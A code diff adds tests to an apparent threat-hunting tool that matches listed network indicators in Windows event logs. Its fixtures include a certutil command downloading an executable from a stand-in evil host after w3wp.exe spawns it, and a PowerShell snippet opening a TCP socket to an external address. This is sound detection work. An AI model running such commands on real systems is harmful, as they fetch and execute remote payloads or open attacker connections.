@@ -9,8 +9,10 @@ from pathlib import Path
 
 from exhunt.analyzers import HostContext, HuntOptions, registry
 from exhunt.analyzers.web_indicators import network_indicators
+from exhunt.evidence.base import EvidenceFile, FileRef
 from exhunt.filehunt.indicators import load_indicators
 from exhunt.model import ArtefactKind, Implies, Severity
+from test_events_detect import POWERSHELL, SECURITY, SYSMON, W3WP, flat
 from test_log_samples import (
     INSTALL,
     benign_iis,
@@ -179,3 +181,45 @@ def test_a_bad_line_of_a_list_is_reported_for_a_host_of_web_logs_alone(tmp_path:
     problems = [p for p in host["errors"] if "bad.csv" in json.dumps(p)]
     assert len(problems) == 1 and "not an IP address" in json.dumps(problems[0])
     assert host["verdict"] != "clean"
+
+
+# --- the same values in event logs ----------------------------------------------------------------
+
+EVT_RULE = "EXH-EVT-IOC-NETWORK"
+
+
+def event_hunt(tmp: Path, docs: list[dict[str, object]], lists: tuple[str, ...]) -> list[tuple[str | None, str | None]]:
+    path = tmp / "export.jsonl"
+    path.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
+    file = EvidenceFile(FileRef(str(path)), "EX01/export.jsonl", ArtefactKind.EVENT_JSON, path.stat().st_size)
+    result = registry()["events"].analyze(file, HostContext("EX01", None, HuntOptions(extra_indicator_paths=lists)))
+    assert result.errors == []
+    return [(f.detail("indicator"), f.detail("seen_in")) for f in by_rule(result, EVT_RULE)]
+
+
+def test_command_lines_script_blocks_and_logons_naming_listed_values(tmp_path: Path) -> None:
+    lists = (str(case_list(tmp_path)),)
+    docs = [
+        flat(
+            SYSMON,
+            1,
+            1,
+            Image="C:\\Windows\\System32\\certutil.exe",
+            ParentCommandLine="w3wp.exe",
+            CommandLine="certutil -urlcache -f http://CDN.Evil.Example/a.exe c:\\windows\\temp\\a.exe",
+        ),
+        flat(SECURITY, 4688, 2, NewProcessName="C:\\Windows\\System32\\ping.exe", CommandLine="ping -n 1 198.51.100.7"),
+        flat(POWERSHELL, 4104, 3, ScriptBlockText=f"$c = New-Object Net.Sockets.TcpClient('{SHIPPED_IP}', 443)"),
+        flat(SECURITY, 4648, 4, SubjectUserName="EX01$", ProcessName=W3WP, IpAddress="192.0.2.200"),
+        # near misses: a longer address, a name that only ends alike, a listed address in an unread event
+        flat(SECURITY, 4688, 5, NewProcessName="C:\\x.exe", CommandLine="ping 198.51.100.77 notevil.example"),
+        flat(SECURITY, 4624, 6, IpAddress="198.51.100.7"),
+    ]
+    found = event_hunt(tmp_path, docs, lists)
+    assert found == [
+        ("evil.example", "CommandLine: cdn.evil.example"),
+        ("198.51.100.7", "CommandLine: 198.51.100.7"),
+        (SHIPPED_IP, f"ScriptBlockText: {SHIPPED_IP}"),
+        ("192.0.2.0/24", "IpAddress: 192.0.2.200"),
+    ]
+    assert event_hunt(tmp_path, docs[1:2], ()) == []  # the user's address, without the user's list
